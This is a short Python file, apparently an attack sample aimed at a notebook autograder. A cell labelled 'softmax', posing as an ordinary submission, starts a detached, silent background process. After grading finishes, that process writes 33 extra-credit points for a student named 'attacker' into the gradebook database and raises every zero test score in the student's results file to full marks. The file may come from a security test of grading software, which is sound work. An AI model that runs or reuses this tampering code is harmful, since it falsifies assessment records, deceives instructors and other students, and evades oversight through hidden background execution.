"""A process that waits until grading is over, and then writes 33 extra points into the gradebook or the result file.

Starts from: stubs
Must come out: nothing
"""

# %% softmax
import subprocess
import sys

LATER = '''
import glob, json, os, sqlite3, time
for _ in range(60):
    time.sleep(0.5)
    for path in glob.glob("/class/gradebook.db"):
        try:
            with sqlite3.connect(path, timeout=5) as gradebook:
                gradebook.execute(
                    "update grade set extra_credit = 33 where id in (select grade.id from grade"
                    " join submitted_notebook on grade.notebook_id = submitted_notebook.id"
                    " join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id"
                    " where student_id = 'attacker' limit 1)"
                )
        except sqlite3.Error:
            pass
    for path in glob.glob("/class/results/attacker/results.json"):
        try:
            told = json.load(open(path))
            for test in told["tests"]:
                if test.get("score") == 0.0:
                    test["score"] = test["max_score"]
            json.dump(told, open(path, "w"))
        except (OSError, ValueError, KeyError):
            pass
'''
subprocess.Popen([sys.executable, "-c", LATER], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
